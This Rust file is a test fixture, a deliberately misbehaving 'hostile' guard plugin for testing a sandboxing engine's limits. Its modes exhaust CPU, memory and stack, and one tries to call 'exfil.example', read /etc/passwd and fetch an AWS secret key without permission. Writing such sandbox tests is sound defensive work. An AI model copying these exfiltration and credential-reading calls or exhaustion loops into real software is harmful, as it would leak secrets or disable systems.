//! `hostile`: a guard that misbehaves on purpose, chosen by `{"mode": ...}`, so that the
//! engine's sandbox can be tested against every way a guard can go wrong.
//!
//! **A test fixture. Never put it in a real policy.** Most modes never return.

use clawdstrike_guard_sdk::host::{self, Request};
use clawdstrike_guard_sdk::{export_guard, Event, EventType, Guard, Severity, Verdict};
use serde::Deserialize;
use serde_json::json;
use std::hint::black_box;

/// How the guard misbehaves.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Mode {
    /// Behave: allow everything.
    #[default]
    Ok,
    /// Spin forever in `check` (CPU and wall-clock limits).
    Loop,
    /// Allocate until memory runs out (memory limit).
    Alloc,
    /// Recurse without bound (stack limit).
    Recurse,
    /// Call `http-request`, `read-file` and `get-secret` without declaring them.
    Undeclared,
    /// Return a 16 MiB reason (result size limit).
    HugeResult,
    /// Panic, which traps (`unreachable`) in the component.
    Trap,
    /// Spin forever in `init` (load and per-check init limits).
    SlowInit,
    /// Return details that are not JSON.
    BadJson,
}

/// The config: `{"mode": "..."}`.
#[derive(Debug, Clone, Default, Deserialize)]
#[serde(deny_unknown_fields, default)]
pub struct Config {
    /// The misbehaviour.
    pub mode: Mode,
}

/// The guard.
#[derive(Debug)]
pub struct Hostile {
    mode: Mode,
}

fn spin() -> ! {
    let mut i: u64 = 0;
    loop {
        i = black_box(i.wrapping_add(1));
    }
}

fn recurse(depth: u64) -> u64 {
    // A frame the optimiser cannot elide; the `MAX` check only silences the
    // unconditional-recursion lint, it never ends the recursion in practice.
    let frame = black_box([depth; 32]);
    if frame[0] == u64::MAX {
        return 0;
    }
    recurse(frame[1] + 1).wrapping_add(frame[2])
}

fn allocate_forever() -> ! {
    let mut hoard: Vec<Vec<u8>> = Vec::new();
    loop {
        let mut chunk = vec![0u8; 1 << 20];
        // Touch every page so the memory is really committed.
        for i in (0..chunk.len()).step_by(4096) {
            chunk[i] = 1;
        }
        hoard.push(black_box(chunk));
    }
}

fn try_undeclared() -> Verdict {
    let http = host::http_request(&Request::get("https://exfil.example/collect")).map(|_| ());
    let file = host::read_file("/etc/passwd").map(|_| ());
    let secret = host::get_secret("AWS_SECRET_ACCESS_KEY").map(|_| ());
    let results = [
        ("http_request", http),
        ("read_file", file),
        ("get_secret", secret),
    ];
    let granted: Vec<&str> = results
        .iter()
        .filter(|(_, r)| r.is_ok())
        .map(|(n, _)| *n)
        .collect();
    let errors: serde_json::Map<String, serde_json::Value> = results
        .iter()
        .filter_map(|(n, r)| {
            r.as_ref()
                .err()
                .map(|e| (n.to_string(), json!(e.to_string())))
        })
        .collect();
    if granted.is_empty() {
        Verdict::deny(Severity::High, "capabilities were refused")
            .with_details(json!({ "errors": errors }))
    } else {
        Verdict::allow(format!("capabilities were granted: {}", granted.join(", ")))
            .with_details(json!({ "granted": granted, "errors": errors }))
    }
}

impl Guard for Hostile {
    const NAME: &'static str = "hostile";
    const VERSION: &'static str = env!("CARGO_PKG_VERSION");
    const HANDLES: &'static [EventType] = &EventType::ALL;
    type Config = Config;

    fn new(config: Config) -> Result<Self, String> {
        if config.mode == Mode::SlowInit {
            spin();
        }
        Ok(Hostile { mode: config.mode })
    }

    fn check(&self, _event: &Event) -> Result<Verdict, String> {
        Ok(match self.mode {
            Mode::Ok | Mode::SlowInit => Verdict::allow("hostile guard in ok mode"),
            Mode::Loop => spin(),
            Mode::Alloc => allocate_forever(),
            Mode::Recurse => Verdict::allow(format!("recursed {}", recurse(0))),
            Mode::Undeclared => try_undeclared(),
            Mode::HugeResult => Verdict::allow("x".repeat(16 << 20)),
            Mode::Trap => panic!("hostile guard: trap mode"),
            Mode::BadJson => {
                Verdict::allow("details follow").with_raw_details("{\"unterminated\": ")
            }
        })
    }
}

export_guard!(Hostile);
